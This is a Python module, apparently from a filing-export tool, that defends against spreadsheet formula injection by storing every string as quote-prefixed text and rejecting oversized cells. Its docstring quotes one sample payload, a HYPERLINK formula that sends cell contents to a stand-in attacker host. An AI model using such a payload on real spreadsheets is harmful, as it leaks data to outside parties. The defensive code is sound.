"""Text written to a spreadsheet stays text: never a formula, never a broken file.

openpyxl turns any string that starts with `=` into a live formula, and Excel and WPS treat text
starting with `+ - @` (and a tab or CR before them) as formulas when a cell is edited — the
"CSV/formula injection" OWASP describes. A filing's cell may hold anything a clerk or an attacker
typed (`=HYPERLINK("http://evil.example/?"&A1)`), so every text cell is written as a string with
Excel's quote prefix — what Excel itself stores when someone types `'=…` — which keeps the value
unchanged for every reader while no spreadsheet evaluates it. Characters XML cannot hold are
dropped (the importer drops them too), and a text longer than a cell can hold is refused.
"""

from __future__ import annotations

from ..errors import ExportError
from ..normalize import CONTROL_RE

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
MAX_CELL_CHARS = 32_767  # Excel's limit; a longer text is cut when the file is opened


def text_value(text: str) -> str:
    """What a text cell will hold: the text without characters XML cannot carry."""
    return CONTROL_RE.sub("", text)


def set_cell(cell, value: object, where: str = "") -> None:
    """Put a value into an openpyxl cell; a string is always stored as inert text."""
    if not isinstance(value, str):
        cell.value = value
        return
    text = text_value(value)
    if len(text) > MAX_CELL_CHARS:
        raise ExportError(
            f"{where or cell.coordinate}的内容有 {len(text)} 个字符，超过 Excel 单元格上限 {MAX_CELL_CHARS}，未导出"
        )
    cell.value = text
    cell.data_type = "s"  # openpyxl would store "=…" as a formula
    if text.startswith(FORMULA_TRIGGERS):
        cell.quotePrefix = True


def append_row(sheet, values: list[object], where: str = "") -> None:
    """sheet.append, with every string written by set_cell."""
    row = sheet.max_row + 1 if sheet.max_row > 1 or sheet.cell(1, 1).value is not None else 1
    for col, value in enumerate(values, start=1):
        set_cell(sheet.cell(row=row, column=col), value, where)
